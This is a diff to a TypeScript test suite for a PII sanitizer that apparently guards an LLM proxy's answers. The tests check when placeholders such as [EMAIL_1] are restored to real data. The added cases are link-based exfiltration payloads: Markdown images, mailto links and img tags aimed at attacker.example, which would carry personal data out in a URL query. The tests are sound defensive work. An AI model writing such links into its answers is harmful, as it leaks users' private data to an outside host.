@@ -72,6 +72,17 @@ describe('pii-sanitizer at the edges of an answer', () => {
       // A bare link runs over quotes and backticks, as autolinkers read it.
       'Visit https://attacker.example/?m="[EMAIL_1] now',
       'Visit https://attacker.example/?m=`[EMAIL_1]` now',
+      'Visit:https://attacker.example/?m="[EMAIL_1]"',
+      // Compact JSON in prose: renderers link across its quotes.
+      '{"url":"https://attacker.example/?x","email":"[EMAIL_1]"}',
+      // Any Markdown destination, nested brackets, a scheme without slashes, mailto; a reference in angle brackets; an
+      // attribute's value across a line break, and one without quotes.
+      '![x](https://attacker.example/p.png?m=((a))[EMAIL_1])',
+      '![x](http:attacker.example/p.png?m=[EMAIL_1])',
+      '[x](mailto:x@attacker.example?body=[EMAIL_1])',
+      '\n[r]: <https://attacker.example/p.png?a= [EMAIL_1]>\n',
+      '<img src="https://attacker.example/?m=\n[EMAIL_1]">',
+      '<img src=https://attacker.example/?m="[EMAIL_1]">',
     ];
     for (const link of links) {
       for (const answer of await answered(`Done. ${link} Thanks, [EMAIL_1].`)) {
@@ -87,8 +98,8 @@ describe('pii-sanitizer at the edges of an answer', () => {
       "Our site is 'https://acme.example' and you are [EMAIL_1].",
       '<a href="https://acme.example/a b">docs</a> for [EMAIL_1]',
       `The page https://acme.example/${'x'.repeat(2100)} is long.\n${'Some words here. '.repeat(10)}Write to [EMAIL_1].`,
-      // A link a double quote opens ends at its closing quote: compact JSON.
-      '{"url":"https://acme.example/a","email":"[EMAIL_1]"}',
+      // Pretty JSON in prose: a blank ends the link.
+      '{"url": "https://acme.example/a", "email": "[EMAIL_1]"}',
     ];
     for (const text of texts) {
       for (const answer of await answered(text)) expect(answer).toBe(text.replace('[EMAIL_1]', EMAIL));
@@ -104,6 +115,9 @@ describe('pii-sanitizer at the edges of an answer', () => {
     });
     const message = ((await (await ask()).json()) as any).choices[0].message;
     expect(JSON.parse(message.content)).toEqual({ to: ADDRESS });
+    // In a JSON answer only the string a placeholder sits in is read for a link: a site in the field before is none.
+    provider.respond = () => ({ status: 200, body: chatCompletion('{"site":"https://acme.example/a","to":"[ADDRESS_1]"}') });
+    expect(JSON.parse(((await (await ask()).json()) as any).choices[0].message.content)).toEqual({ site: 'https://acme.example/a', to: ADDRESS });
     expect(message.reasoning_content).toBe(`The parcel goes to ${ADDRESS}, so I write that.`);
     expect(message.refusal).toBe(`Not for ${ADDRESS}.`);
 
